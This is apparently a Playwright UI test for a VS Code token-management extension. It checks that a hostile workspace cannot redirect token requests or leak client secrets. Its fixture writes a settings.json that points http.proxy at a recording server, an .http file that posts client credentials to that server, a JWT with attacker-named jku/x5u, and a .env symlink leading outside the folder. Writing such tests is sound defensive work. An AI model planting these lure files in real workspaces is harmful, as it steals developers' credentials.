/**
 * A hostile workspace, opened in Restricted Mode (workspace trust on, as users have it). The user has two
 * profiles, demo (active) and staging, added in their own trusted folder. The hostile folder's
 * .vscode/settings.json asks for staging through `konexus.defaultProfile` (the extension's one restricted
 * setting) and points `http.proxy` at a recording server; its .http file, .env and a JWT whose `iss` (and
 * `jku`, `x5u`) name that server try to lure requests there. The recording server keeps every byte it is
 * sent.
 *
 * Checked: in Restricted Mode the status bar keeps the user's profile (demo), a token refresh and hovering
 * and inspecting the hostile token send nothing to the recording server, and no CodeLens calls that token
 * (the user's client id, another issuer) the demo profile's; once the user trusts the folder
 * through the workbench's own Workspace Trust editor, the setting applies (staging), and still no byte of
 * either secret, in any encoding, ever reaches the recording server. The search is shown to work: the same
 * search over what the real identity server received finds both secrets.
 *
 * The folder's .env is a symbolic link to a file outside it. In Restricted Mode the CodeLens that would
 * write the token there opens a modal dialog naming where the link leads, the profile and the risk; Cancel,
 * and "Manage Workspace Trust" (which opens the Workspace Trust editor), leave the link, its target and the
 * .http file byte-for-byte unchanged; "Write Token" writes the user's token there (the old value only). A
 * plain sub/.env is confirmed the same way. Opened again in Restricted Mode, both kept .env files are
 * paused: a refresh writes neither. Once trusted, the plain one is kept current again (staging's token)
 * while the link leading outside stays paused.
 * Screenshots: Restricted Mode, the hostile token inspected, the .env dialog, the paused lens, the trusted folder.
 */
import { randomBytes } from 'node:crypto';
import { mkdirSync, readFileSync, readlinkSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Page } from 'playwright-core';
import { encodedForms, findForms, startRecordingServer } from '../harness/lib/recordingServer';
import { extensionId } from '../harness/lib/repo';
import { addProfileThroughUi, pickItem, runCommand, trustThroughEditor, waitForRestrictedMode } from '../harness/lib/uiActions';
import type { UiContext } from '../harness/lib/uiScenario';
import { DEMO_CLIENT } from '../idp/konexusIdp';

export const name = 'a hostile workspace in Restricted Mode cannot pick the profile or draw the secret; trusting it applies its profile';
export const workspaceTrust = true;

const TIMEOUT = 30_000;
const STAGING = { name: 'staging', clientId: 'konexus-staging-client', clientSecret: `staging-secret-${randomBytes(12).toString('hex')}` };
const HTTP_FILE = 'exfiltrate.http';
const PLAIN_HTTP_FILE = 'plain.http';

export async function run(page: Page, ui: UiContext): Promise<void> {
  const { workbench } = ui;
  const recorder = await startRecordingServer();
  try {
    ui.idp.addClient({ clientId: STAGING.clientId, clientSecret: STAGING.clientSecret, claims: { tenantId: '2024', name: 'Staging client' } });

    // 1. The user's own folder, trusted: the demo profile comes up, staging is added, demo chosen again.
    await ui.step('the workbench comes up with the demo token, its folder in Restricted Mode', async () => {
      await workbench.waitUntilReady();
      await waitForRestrictedMode(workbench);
      await workbench.statusBarItem(/Konexus · demo · (?:\d+h )?\d+m/).first().waitFor({ timeout: 60_000 });
    });
    await ui.step('the user trusts their own folder in the Workspace Trust editor', () => trustThroughEditor(workbench));
    await ui.step('"Konexus: Add Profile…" adds staging, which becomes active', async () => {
      await addProfileThroughUi(workbench, { ...STAGING, authority: ui.idp.issuer });
      await workbench.statusBarItem(/Konexus · staging · (?:\d+h )?\d+m/).first().waitFor({ timeout: TIMEOUT });
    });
    await ui.step('"Konexus: Switch Profile…" makes demo the active profile again', async () => {
      await runCommand(workbench, 'Konexus: Switch Profile…');
      await pickItem(workbench, 'demo');
      await workbench.statusBarItem(/Konexus · demo · (?:\d+h )?\d+m/).first().waitFor({ timeout: TIMEOUT });
      // The web workbench writes globalState to IndexedDB a little later; leaving the page before that
      // would lose the choice (and the next folder would start from staging for that reason alone).
      await waitUntilAsync(async () => (await storedGlobalActiveProfile(page)) === 'demo', 'the choice of demo did not reach IndexedDB');
    });

    // 2. The hostile folder, not trusted.
    const hostile = join(dirname(ui.workspace), 'hostile-workspace');
    const lure = await writeHostileWorkspace(hostile, recorder.url, ui);
    await ui.step('the hostile folder opens in Restricted Mode', async () => {
      await page.goto(ui.workbenchUrl(hostile));
      await workbench.waitUntilReady();
      await waitForRestrictedMode(workbench);
    });
    await ui.step('in Restricted Mode the status bar keeps the user\'s profile, not the workspace\'s', async () => {
      const stored = await storedGlobalActiveProfile(page);
      if (stored !== 'demo') throw new Error(`the user's stored choice is ${stored}, not demo: the test is broken`);
      await workbench.statusBarItem(/Konexus · demo · (?:\d+h )?\d+m/).first().waitFor({ timeout: 60_000 });
      // The workspace's value must not win later either (a configuration event, a re-render).
      await page.waitForTimeout(3000);
      const konexus = (await workbench.statusBarItem(/Konexus · /).allInnerTexts()).map(text => text.trim());
      if (konexus.length !== 1 || !/^Konexus · demo · \d+m$/.test(konexus[0]!)) throw new Error(`the status bar shows ${JSON.stringify(konexus)}`);
    });
    await ui.screenshot('restricted-mode');

    await ui.step('a token refresh in Restricted Mode goes to the profile\'s server, not the workspace\'s proxy', async () => {
      const before = ui.idp.requests.length;
      await runCommand(workbench, 'Konexus: Refresh Token');
      await waitUntil(() => ui.idp.requests.slice(before).some(request => request.path === '/connect/token'), 'the refresh did not reach the identity server');
      await workbench.statusBarItem(/Konexus · demo · (?:\d+h )?\d+m/).first().waitFor({ timeout: TIMEOUT });
    });

    await ui.step('hovering the token that names the recording server describes it and calls nobody', async () => {
      await workbench.quickOpen(HTTP_FILE);
      const line = workbench.activeEditorLines().filter({ hasText: lure.jwt.split('.')[1]!.slice(0, 40) }).first();
      await line.waitFor({ timeout: TIMEOUT });
      await line.hover({ position: { x: 260, y: 8 } });
      const hover = page.locator('.monaco-hover:visible', { hasText: 'Inspect in Konexus' });
      await hover.waitFor({ timeout: TIMEOUT });
      const text = await hover.innerText();
      if (!text.includes(`Issuer: ${recorder.url}`)) throw new Error(`the hover does not name the token's issuer:\n${text}`);
      await ui.screenshot('restricted-hover');
      await hover.locator('a', { hasText: 'Inspect in Konexus' }).click();
      const rows = page.locator('.pane-body .monaco-list-row');
      await page.locator('.pane-header', { hasText: 'Token Inspector' }).waitFor({ timeout: TIMEOUT });
      const signature = rows.filter({ has: page.locator('.label-name', { hasText: /^Signature$/ }) }).first();
      await signature.waitFor({ timeout: TIMEOUT });
      if (!(await signature.locator('.codicon-circle-slash').count())) throw new Error(`the signature is not skipped: ${await signature.innerText()}`);
      // The inspector's checks are done; anything it would fetch has been asked for by now.
      await page.waitForTimeout(2000);
      if (recorder.connections.length) throw new Error(`hovering and inspecting made ${recorder.connections.length} connection(s) to the recording server`);
    });
    await ui.step('no CodeLens calls the hostile token (the user\'s client id, another issuer) a profile\'s', async () => {
      const lenses = page.locator('.editor-group-container.active .codelens-decoration');
      // The lens of the .env reference shows the lenses are drawn; the literal token must have none.
      await lenses.filter({ hasText: 'write token to .env' }).first().waitFor({ timeout: TIMEOUT });
      const titles = (await lenses.allInnerTexts()).map(text => text.trim());
      if (titles.some(title => /literal token/.test(title))) throw new Error(`a CodeLens claims the hostile token: ${titles.join(' | ')}`);
    });
    await page.mouse.move(700, 880);
    await ui.screenshot('restricted-inspector');

    // 2b. Writing the user's token into the folder's .env (a link leading outside it) asks first.
    const dialog = page.locator('.monaco-dialog-box');
    const lens = (text: string) => page.locator('.editor-group-container.active .codelens-decoration', { hasText: text }).first().locator('a').first();
    const envLink = join(hostile, '.env');
    const linkTarget = realpathSync(lure.linkTarget);
    const files = () => ({ target: readFileSync(linkTarget), http: readFileSync(join(hostile, HTTP_FILE)), link: readlinkSync(envLink), plain: readFileSync(lure.plainEnv) });
    const original = files();
    await ui.step('in Restricted Mode the .env lens asks first: a modal dialog names where the link leads, the profile and the risk', async () => {
      await lens('write token to .env…').click({ timeout: TIMEOUT });
      await dialog.waitFor({ timeout: TIMEOUT });
      const text = await dialog.innerText();
      for (const expected of [
        'profile "demo"', 'Restricted Mode',
        `${envLink} is a symbolic link: the token would be written to ${linkTarget}, outside the workspace folder.`,
        'Anyone who can read that file can use the token', 'until the token expires', 'Cancel writes nothing',
      ]) {
        if (!text.includes(expected)) throw new Error(`the dialog lacks "${expected}":\n${text}`);
      }
      const buttons = (await dialog.locator('.monaco-button').allInnerTexts()).map(label => label.trim());
      for (const expected of ['Write Token', 'Manage Workspace Trust', 'Cancel']) {
        if (!buttons.includes(expected)) throw new Error(`the dialog has no "${expected}" button: ${buttons.join(' | ')}`);
      }
      ui.log(`dialog: ${text.replace(/\s*\n\s*/g, ' / ')}`);
    });
    await ui.screenshot('restricted-dotenv-dialog');
    await ui.step('Cancel writes nothing: the .env link, where it leads and the .http file stay byte-for-byte the same', async () => {
      await dialog.locator('.monaco-button', { hasText: /^Cancel$/ }).click();
      await dialog.waitFor({ state: 'hidden', timeout: TIMEOUT });
      // The command's own answer: it returned without writing.
      await workbench.statusBarItem('the token was not written to .env').first().waitFor({ timeout: TIMEOUT });
      assertSameFiles(original, files());
      if (await page.locator('.tabs-container .tab.active.dirty').count()) throw new Error(`${HTTP_FILE} was changed in the editor`);
      if (recorder.connections.length) throw new Error(`the recording server was called ${recorder.connections.length} time(s)`);
    });
    await ui.step('"Manage Workspace Trust" opens the workbench\'s Workspace Trust editor and writes nothing either', async () => {
      await lens('write token to .env…').click({ timeout: TIMEOUT });
      await dialog.waitFor({ timeout: TIMEOUT });
      await dialog.locator('.monaco-button', { hasText: /^Manage Workspace Trust$/ }).click();
      const trustEditor = page.locator('.workspace-trust-editor');
      await trustEditor.waitFor({ timeout: TIMEOUT });
      await page.locator('a.action-label[aria-label^="Close Modal Editor"]').first().click();
      await trustEditor.waitFor({ state: 'hidden', timeout: TIMEOUT });
      await workbench.waitForEditor(HTTP_FILE);
      assertSameFiles(original, files());
      if (!(await page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).count())) throw new Error('the folder is no longer in Restricted Mode');
    });
    await ui.step('"Write Token" writes the user\'s token where the link leads, in place of the old value only; the .http file is unchanged', async () => {
      await lens('write token to .env…').click({ timeout: TIMEOUT });
      await dialog.waitFor({ timeout: TIMEOUT });
      await dialog.locator('.monaco-button', { hasText: /^Write Token$/ }).click();
      await waitUntil(() => dotenvToken(readFileSync(linkTarget, 'utf8')) !== lure.jwt, 'the token was not written where the link leads');
      const written = dotenvToken(readFileSync(linkTarget, 'utf8'))!;
      const claims = jwtClaims(written);
      if (claims.iss !== ui.idp.issuer || claims.client_id !== DEMO_CLIENT.clientId) throw new Error(`the .env holds a token of ${String(claims.iss)} for ${String(claims.client_id)}, not the demo profile's`);
      if (readFileSync(linkTarget, 'utf8') !== original.target.toString('utf8').replace(lure.jwt, written)) throw new Error('more than the token changed where the link leads');
      assertSameFiles({ ...original, target: readFileSync(linkTarget) }, files());
      await page.locator('.editor-group-container.active .codelens-decoration', { hasText: /Konexus · demo · valid/ }).first().waitFor({ timeout: TIMEOUT });
    });
    await ui.step(`the plain ${PLAIN_HTTP_FILE}'s .env asks too, without a word about links, and is written once confirmed`, async () => {
      await workbench.quickOpen(PLAIN_HTTP_FILE);
      await lens('write token to .env…').click({ timeout: TIMEOUT });
      await dialog.waitFor({ timeout: TIMEOUT });
      const text = await dialog.innerText();
      if (!text.includes(`The token would be written to ${realpathSync(lure.plainEnv)}.`) || /symbolic link/.test(text) || !text.includes('Restricted Mode')) throw new Error(`the dialog for the plain .env says:\n${text}`);
      await dialog.locator('.monaco-button', { hasText: /^Write Token$/ }).click();
      await waitUntil(() => jwtClaims(dotenvToken(readFileSync(lure.plainEnv, 'utf8')) ?? '').client_id === DEMO_CLIENT.clientId, 'the plain .env did not get the demo token');
    });
    await ui.step('opened again, still in Restricted Mode: both kept .env files are paused, and a refresh writes neither', async () => {
      await page.goto(ui.workbenchUrl(hostile));
      // The side bar comes back as it was left (the Konexus view, not the explorer).
      await page.locator('.monaco-workbench .part.editor').waitFor({ state: 'visible', timeout: 120_000 });
      await waitForRestrictedMode(workbench);
      await workbench.quickOpen(PLAIN_HTTP_FILE);
      await page.locator('.editor-group-container.active .codelens-decoration', { hasText: '.env paused in Restricted Mode…' }).first().waitFor({ timeout: 60_000 });
      const kept = files();
      const before = ui.idp.requests.length;
      await runCommand(workbench, 'Konexus: Refresh Token');
      await waitUntil(() => ui.idp.requests.slice(before).some(request => request.path === '/connect/token'), 'the refresh did not reach the identity server');
      await workbench.statusBarItem(/Konexus · demo · (?:\d+h )?\d+m/).first().waitFor({ timeout: TIMEOUT });
      // The upkeep runs on the token event; give it the time a write takes (it would have happened by now).
      await page.waitForTimeout(3000);
      assertSameFiles(kept, files());
    });
    await page.mouse.move(700, 880);
    await ui.screenshot('restricted-paused-lens');

    // 3. The user trusts the hostile folder through the Workspace Trust editor.
    await ui.step('the user trusts the folder in the Workspace Trust editor', () => trustThroughEditor(workbench, () => ui.screenshot('trust-editor')));
    await ui.step('trusted, the workspace\'s konexus.defaultProfile applies: the status bar shows staging', async () => {
      // This window has no token for staging yet (the web keeps tokens in memory; nothing fetches at start-up).
      await workbench.statusBarItem(/Konexus · staging · (?:no token|(?:\d+h )?\d+m)/).first().waitFor({ timeout: TIMEOUT });
    });
    await ui.step('a token refresh for staging, with the workspace\'s http.proxy now trusted, still goes to the profile\'s server', async () => {
      const before = ui.idp.requests.length;
      await runCommand(workbench, 'Konexus: Refresh Token');
      await waitUntil(() => ui.idp.requests.slice(before).some(request => request.path === '/connect/token' && findForms(request.body, encodedForms(STAGING.clientSecret)).length > 0), 'the staging refresh did not reach the identity server');
      await workbench.statusBarItem(/Konexus · staging · (?:\d+h )?\d+m/).first().waitFor({ timeout: TIMEOUT });
    });
    await ui.step('trusted, the plain .env is kept current again (staging\'s token); the link leading outside stays paused', async () => {
      const atTrust = readFileSync(linkTarget);
      await waitUntil(() => jwtClaims(dotenvToken(readFileSync(lure.plainEnv, 'utf8')) ?? '').client_id === STAGING.clientId, 'the plain .env did not get the staging token after trust');
      await page.locator('.editor-group-container.active .codelens-decoration', { hasText: /Konexus · staging · valid/ }).first().waitFor({ timeout: TIMEOUT });
      await page.locator('.tabs-container .tab', { hasText: HTTP_FILE }).first().click();
      await workbench.waitForEditor(HTTP_FILE);
      await page.locator('.editor-group-container.active .codelens-decoration', { hasText: '.env paused: symbolic link…' }).first().waitFor({ timeout: TIMEOUT });
      if (!readFileSync(linkTarget).equals(atTrust)) throw new Error('a token was written through the link leading outside without confirmation');
      if (jwtClaims(dotenvToken(atTrust.toString('utf8')) ?? '').client_id !== DEMO_CLIENT.clientId) throw new Error('the link\'s target no longer holds the token confirmed in the first window');
    });
    await page.mouse.move(700, 880);
    await ui.screenshot('trusted');

    await ui.step('the recording server received no byte of either secret, and no request at all', async () => {
      const received = recorder.received();
      const secrets = [
        { label: 'demo', forms: encodedForms(DEMO_CLIENT.clientSecret, DEMO_CLIENT.clientId) },
        { label: 'staging', forms: encodedForms(STAGING.clientSecret, STAGING.clientId) },
      ];
      // The search itself works: over what the real identity server received it finds both secrets.
      const atIdp = ui.idp.requests.map(request => `${JSON.stringify(request.headers)}\n${request.body}`).join('\n');
      for (const { label, forms } of secrets) {
        if (!findForms(atIdp, forms).length) throw new Error(`the search does not find the ${label} secret where it was sent: the search is broken`);
        const leaked = findForms(received, forms);
        if (leaked.length) throw new Error(`the recording server received the ${label} secret (${leaked.join(', ')})`);
      }
      ui.log(`recording server: ${recorder.connections.length} connection(s), ${received.length} byte(s); ${secrets.length} secrets × ${secrets[0]!.forms.size} encodings searched; identity server: ${ui.idp.requests.length} request(s)`);
      if (recorder.connections.length) throw new Error(`the recording server was called ${recorder.connections.length} time(s):\n${received.toString('latin1').slice(0, 2000)}`);
    });
  } finally {
    ui.idp.removeClient(STAGING.clientId);
    await recorder.close();
  }
}

/**
 * The hostile folder: settings, a .http file and a .env aimed at `target`, and a JWT whose iss is `target`.
 * Its .env is a symbolic link to `linkTarget`, outside the folder; sub/ holds a .http file and a plain .env.
 */
async function writeHostileWorkspace(folder: string, target: string, ui: UiContext): Promise<{ jwt: string; linkTarget: string; plainEnv: string }> {
  const now = Math.floor(Date.now() / 1000);
  const jwt = await ui.idp.sign(
    { iss: target, aud: 'tamarack', client_id: DEMO_CLIENT.clientId, scope: 'tamarack', iat: now, nbf: now, exp: now + 3600, tenantId: '1741' },
    { jku: `${target}/jwks`, x5u: `${target}/cert.pem`, kid: 'hostile-key' },
  );
  mkdirSync(join(folder, '.vscode'), { recursive: true });
  writeFileSync(join(folder, '.vscode', 'settings.json'), `${JSON.stringify({
    'konexus.defaultProfile': STAGING.name,
    'http.proxy': target,
    'http.proxySupport': 'override',
    'http.proxyStrictSSL': false,
    'http.noProxy': [],
  }, null, 2)}\n`);
  writeFileSync(join(folder, HTTP_FILE), [
    `@authority = ${target}`,
    '',
    '### Get a token from "our" identity server',
    'POST {{authority}}/connect/token',
    'Content-Type: application/x-www-form-urlencoded',
    '',
    'grant_type=client_credentials&client_id={{$dotenv KONEXUS_CLIENT_ID}}&client_secret={{$dotenv KONEXUS_CLIENT_SECRET}}',
    '',
    '### Call the API with it',
    'GET {{authority}}/v1/me',
    `Authorization: Bearer ${jwt}`,
    '',
    '### And with the token of the .env',
    'GET {{authority}}/v1/tenants',
    'Authorization: Bearer {{$dotenv KONEXUS_TOKEN}}',
    '',
  ].join('\n'));
  const elsewhere = join(dirname(folder), 'hostile-elsewhere');
  mkdirSync(elsewhere, { recursive: true });
  const linkTarget = join(elsewhere, 'collected.env');
  writeFileSync(linkTarget, [
    `KONEXUS_AUTHORITY=${target}`,
    `KONEXUS_CLIENT_ID=${DEMO_CLIENT.clientId}`,
    'KONEXUS_CLIENT_SECRET=',
    `KONEXUS_TOKEN=${jwt}`,
    '',
  ].join('\n'));
  symlinkSync(linkTarget, join(folder, '.env'));
  mkdirSync(join(folder, 'sub'), { recursive: true });
  writeFileSync(join(folder, 'sub', PLAIN_HTTP_FILE), [
    '### Tenants',
    `GET ${target}/v1/tenants`,
    'Authorization: Bearer {{$dotenv KONEXUS_TOKEN}}',
    '',
  ].join('\n'));
  const plainEnv = join(folder, 'sub', '.env');
  writeFileSync(plainEnv, `KONEXUS_AUTHORITY=${target}\nKONEXUS_TOKEN=\n`);
  return { jwt, linkTarget, plainEnv };
}

/** The value of KONEXUS_TOKEN in a .env text. */
function dotenvToken(text: string): string | undefined {
  return /^KONEXUS_TOKEN=(.*?)\r?$/m.exec(text)?.[1];
}

/** A JWT's claims, unverified ({} when it is not one). */
function jwtClaims(jwt: string): Record<string, unknown> {
  try {
    return JSON.parse(Buffer.from(jwt.split('.')[1] ?? '', 'base64url').toString('utf8')) as Record<string, unknown>;
  } catch {
    return {};
  }
}

interface HostileFiles {
  readonly target: Buffer;
  readonly http: Buffer;
  readonly link: string;
  readonly plain: Buffer;
}

function assertSameFiles(expected: HostileFiles, actual: HostileFiles): void {
  if (!actual.target.equals(expected.target)) throw new Error('the file the .env link leads to changed');
  if (!actual.http.equals(expected.http)) throw new Error(`${HTTP_FILE} changed`);
  if (actual.link !== expected.link) throw new Error(`the .env link now leads to ${actual.link}`);
  if (!actual.plain.equals(expected.plain)) throw new Error('sub/.env changed');
}

/** konexus.activeProfile of the extension's globalState as the web workbench stored it in IndexedDB. */
async function storedGlobalActiveProfile(page: Page): Promise<string | undefined> {
  return page.evaluate(async (id: string) => {
    for (const info of await indexedDB.databases()) {
      if (!info.name?.startsWith('vscode-web-state-db-global')) continue;
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const open = indexedDB.open(info.name!);
        open.onsuccess = () => resolve(open.result);
        open.onerror = () => reject(open.error);
      });
      try {
        if (!db.objectStoreNames.contains('ItemTable')) continue;
        const value = await new Promise<unknown>((resolve, reject) => {
          const get = db.transaction('ItemTable', 'readonly').objectStore('ItemTable').get(id);
          get.onsuccess = () => resolve(get.result);
          get.onerror = () => reject(get.error);
        });
        if (typeof value === 'string') return (JSON.parse(value) as Record<string, unknown>)['konexus.activeProfile'] as string | undefined;
      } finally {
        db.close();
      }
    }
    return undefined;
  }, extensionId);
}

async function waitUntilAsync(condition: () => Promise<boolean>, message: string, timeoutMs = TIMEOUT): Promise<void> {
  const started = Date.now();
  while (!(await condition())) {
    if (Date.now() - started > timeoutMs) throw new Error(message);
    await new Promise(resolve => setTimeout(resolve, 250));
  }
}

async function waitUntil(condition: () => boolean, message: string, timeoutMs = TIMEOUT): Promise<void> {
  const started = Date.now();
  while (!condition()) {
    if (Date.now() - started > timeoutMs) throw new Error(message);
    await new Promise(resolve => setTimeout(resolve, 200));
  }
}
